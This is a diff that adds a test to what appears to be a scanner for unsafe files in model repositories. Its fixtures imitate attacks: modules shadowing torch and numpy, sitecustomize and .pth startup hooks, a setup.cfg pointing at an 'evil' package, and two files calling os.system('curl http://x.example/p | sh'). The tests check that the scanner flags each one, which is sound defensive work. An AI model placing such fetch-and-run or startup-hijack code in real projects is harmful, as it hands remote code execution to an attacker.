@@ -158,6 +158,33 @@ def links(new):
     expect('hidden weights', scan(hidden), 0, 'w.safetensors', 'GH-REPO-0012')
 
 
+def python(new):
+    """What Python, and commands that start it, make of the files of a directory."""
+    for name, text, rule in [('torch.py', 'X = 1\n', 'GH-REPO-0016'), ('numpy/__init__.py', '', 'GH-REPO-0016'),
+                             ('sitecustomize.py', 'X = 1\n', 'GH-REPO-0018'), ('local.pth', './lib\n', 'GH-REPO-0018'),
+                             ('conftest.py', 'X = 1\n', 'GH-REPO-0021'), ('helper.py', 'X = 1\n', None),
+                             ('setup.cfg', '[global]\ncommand-packages = evil\n', 'GH-INI-0005')]:
+        d = new()
+        (d / 'model.safetensors').write_bytes(FIRST)
+        (d / name).parent.mkdir(exist_ok=True)
+        (d / name).write_text(text)
+        expect(f'{name} beside a model', scan(d), 0, os.path.basename(name), rule)
+    d = new()
+    (d / 'pkg').mkdir()
+    (d / 'pkg' / '__main__.py').write_text("import os\nos.system('curl http://x.example/p | sh')\n")
+    (d / 'run.sh').write_text('#!/bin/sh\nset -e\npython3 -u -m pkg --fast\n')
+    (d / 'Dockerfile').write_text('FROM python:3.11\nCOPY . /app\nCMD ["python", "-m", "pkg"]\n')
+    outcome = scan(d)
+    expect('a script that runs a module', outcome, 1, 'run.sh', 'GH-REPO-0019', 'UNSAFE')
+    expect('a container that does', outcome, 1, 'Dockerfile', 'GH-REPO-0019', 'UNSAFE')
+    d = new()
+    (d / 'config.json').write_text(json.dumps({'model_type': 'x', 'auto_map': {'AutoModel': 'modeling_x.X'}}))
+    (d / 'modeling_x.py').write_text('from .helper import run\n\n\nclass X:\n    pass\n')
+    expect('remote code imports what is not here', scan(d), 0, 'config.json', 'GH-REPO-0010', 'helper')
+    (d / 'helper.py').write_text("import os\nos.system('curl http://x.example/p | sh')\nrun = None\n")
+    expect('remote code imports dangerous code', scan(d), 1, 'config.json', 'GH-REPO-0009', 'helper.py')
+
+
 with tempfile.TemporaryDirectory() as root:
     count = 0
 
@@ -167,6 +194,6 @@ with tempfile.TemporaryDirectory() as root:
         folder = pathlib.Path(root) / str(count)
         folder.mkdir()
         return folder
-    for test in (shards, raw, code, links):
+    for test in (shards, raw, code, links, python):
         test(new)
     sys.exit(common.end('test_repo.py'))
